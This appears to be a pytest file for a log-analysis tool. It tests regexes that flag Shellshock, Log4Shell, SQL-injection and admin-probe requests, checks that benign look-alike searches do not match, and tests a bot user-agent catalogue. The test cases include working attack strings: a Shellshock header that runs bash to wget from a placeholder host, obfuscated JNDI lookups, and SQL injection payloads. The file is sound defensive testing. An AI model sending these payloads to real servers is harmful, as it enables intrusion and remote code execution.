"""Header-attack patterns and the bot list, on their own: what they match and what they must not.

Patterns run in DuckDB's engine (RE2), as the build runs them, on text already percent-decoded.
"""

from __future__ import annotations

import duckdb
import pytest

from golkepar.warehouse import patterns
from golkepar.warehouse.bot_catalogue import (
    BOT_BY_WORD,
    BOT_CATEGORIES,
    KNOWN_BOT_REGEX,
    KNOWN_BOTS,
    OTHER,
    known_bot,
)


def matches(pattern: patterns.SecurityPattern, text: str) -> bool:
    return bool(duckdb.execute("SELECT regexp_matches(?, ?)", [text, pattern.regex]).fetchone()[0])  # type: ignore[index]


# (pattern, text, matches?)
HEADER_CASES: list[tuple[patterns.SecurityPattern, str, bool]] = [
    (patterns.SHELLSHOCK, '() { :; }; /bin/bash -c "wget http://x/y"', True),
    (patterns.SHELLSHOCK, "() { _; } >_[$($())] { echo; id; }", True),
    (patterns.SHELLSHOCK, " (){ :;};echo", True),
    (patterns.SHELLSHOCK, "Mozilla/5.0 (X11) jQuery(function() { })", False),
    (patterns.SHELLSHOCK, "https://www.google.com/search?q=function()+{+}", False),
    (patterns.SHELLSHOCK, "/search?q=() { return 1 }", False),  # a query, not a header value
    (patterns.LOG4SHELL, "${jndi:ldap://198.51.100.66:1389/a}", True),
    (patterns.LOG4SHELL, "${ jndi : rmi://x/a}", True),
    (patterns.LOG4SHELL, "${${lower:j}ndi:${lower:l}dap://x/a}", True),
    (patterns.LOG4SHELL, "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}", True),
    (patterns.LOG4SHELL, "${${env:NaN:-j}ndi${env:NaN:-:}ldap://x/a}", True),
    (patterns.LOG4SHELL, "https://docs.example.org/shell?q=${HOME}/bin", False),
    (patterns.LOG4SHELL, "/blog/template-literals?q=`${name} ${greeting}`", False),
    (patterns.LOG4SHELL, "/search?q=$jndi and ldap", False),
    (patterns.SQL_INJECTION, "https://x.example/item.php?id=1' UNION SELECT NULL--", True),
    (patterns.SQL_INJECTION, "' or '1'='1", True),
    (patterns.SQL_INJECTION, "https://x.example/?id=1 AND SLEEP(5)", True),
    (patterns.SQL_INJECTION, "https://x.example/?id=1') or 1 is null-- -", True),
    (patterns.SQL_INJECTION, "https://x.example/?u=admin'--", True),
    (patterns.SQL_INJECTION, "https://x.example/?u=x' and name like '%adm", True),
    (patterns.SQL_INJECTION, "https://x.example/?id=(select database())", True),
    (patterns.SQL_INJECTION, "https://x.example/?id=(SELECT 1 FROM dual)", True),
]

# Innocent text that a careless pattern takes for an attack: no pattern may match any of it.
LOOKALIKES: list[str] = [
    "/search?q=drop-down select or insert options",
    "/search?q=drop-down (select or insert) options",
    "/blog/linux-etc-hosts-explained/",
    '/search?q=l\'été "en famille"',
    '/search?q=O\'Reilly "Learning SQL" or "SQL in a nutshell"',
    '/search?q="cats" and others like them',
    '/search?q="rock" or "jazz" is better',
    "/search?q=sleep (2023 film)",
    '/search?q="grep" --color',
    '/search?q=it\'s a "must" -- really',
    "/search?q=(select one) from the list",
    "https://www.google.fr/search?q=\"select\" or 'insert' drop-down options",
    "https://www.bing.com/search?q=drop table or insert into the kitchen",
    'https://forum.example.net/t/it\'s-the-"best"-or-not/42',
    "/search?q=function() { return 1; }",
]


@pytest.mark.parametrize(
    ("pattern", "text", "expected"),
    HEADER_CASES,
    ids=[f"{p.kind}:{t[:40]}" for p, t, _ in HEADER_CASES],
)
def test_header_pattern(pattern: patterns.SecurityPattern, text: str, expected: bool) -> None:
    assert matches(pattern, text) is expected


@pytest.mark.parametrize("text", LOOKALIKES)
def test_lookalike_matches_no_request_pattern(text: str) -> None:
    path = text.split("?")[0]
    for pattern in patterns.PATTERN_KINDS:
        target = path if pattern.target == patterns.PATH else text
        assert not matches(pattern, target), (pattern.kind, text)


@pytest.mark.parametrize("path", ["/administration-guide/", "/administrative-law/", "/admins"])
def test_a_page_named_like_an_admin_area_is_not_a_probe_even_when_missing(path: str) -> None:
    assert not matches(patterns.ADMIN_PROBE, path)


@pytest.mark.parametrize(
    ("user_agent", "name", "category"),
    [
        ("Mozilla/5.0 (compatible; Googlebot-Image/1.0)", "Googlebot", "search"),
        ("Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", "Bingbot",
         "search"),
        ("Mozilla/5.0 (compatible; GPTBot/1.2; +https://openai.com/gptbot)", "GPTBot", "ai"),
        ("Mozilla/5.0 (Linux; Android 5.0) (compatible; Bytespider; spider-feedback@bytedance.com)",
         "Bytespider", "ai"),
        ("meta-externalagent/1.1", "meta-externalagent", "ai"),
        ("Mozilla/5.0 (compatible; SemrushBot/7~bl)", "SemrushBot", "seo"),
        ("Mozilla/5.0 (compatible; DotBot/1.2; +https://opensiteexplorer.org/dotbot)", "DotBot",
         "seo"),
        ("LinkedInBot/1.0 (compatible; Mozilla/5.0; Apache-HttpClient +http://www.linkedin.com)",
         "LinkedInBot", "social"),
        ("TelegramBot (like TwitterBot)", "TelegramBot", "social"),
        ("Slack-ImgProxy (+https://api.slack.com/robots)", "Slackbot", "social"),
        ("http.rb/5.1.1 (Mastodon/4.2.0; +https://mastodon.social/)", "Mastodon", "social"),
        ("Mozilla/5.0 (compatible; Discordbot/2.0; +https://discordapp.com)", "Discordbot",
         "social"),
        ("Better Uptime Bot Mozilla/5.0 (Windows NT 10.0)", "Better Uptime", "monitor"),
        ("Mozilla/5.0 (compatible; StatusCake)", "StatusCake", "monitor"),
        ("check_http/v2.3.3 (nagios-plugins 2.3.3)", "Nagios", "monitor"),
        ("NewsBlur Feed Fetcher - 3 subscribers - https://www.newsblur.com", "NewsBlur", "feed"),
        ("Wget/1.21.4", "Wget", "library"),
        ("okhttp/4.12.0", "okhttp", "library"),
        ("Mozilla/5.0 (X11) AppleWebKit/537.36 HeadlessChrome/120.0.0.0 Safari/537.36",
         "HeadlessChrome", "headless"),
        ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/131.0.0.0", None,
         None),
        ("Mozilla/5.0 (iPhone; CPU iPhone OS 18_1) [FBAN/FBIOS;FBAV/450.0] Instagram 350.0", None,
         None),
        (None, None, None),
    ],
)  # fmt: skip
def test_known_bot_names_and_sorts_user_agents(
    user_agent: str | None, name: str | None, category: str | None
) -> None:
    bot = known_bot(user_agent)
    assert (bot.name if bot else None, bot.category.name if bot else None) == (name, category)
    # DuckDB's engine finds the same word as Python's.
    found = duckdb.execute(
        "SELECT lower(regexp_extract(?, ?, 0))", [user_agent, KNOWN_BOT_REGEX]
    ).fetchone()
    assert found is not None
    assert (BOT_BY_WORD[found[0]].name if found[0] else None) == name


def test_the_bot_list_is_well_formed() -> None:
    named = {bot.category for bot in KNOWN_BOTS}
    # Every category but `other` has bots; `other` is what the list does not name.
    assert named == set(BOT_CATEGORIES) - {OTHER}
    assert len({c.name for c in BOT_CATEGORIES}) == len(BOT_CATEGORIES)
    assert len({bot.name for bot in KNOWN_BOTS}) == len(KNOWN_BOTS)
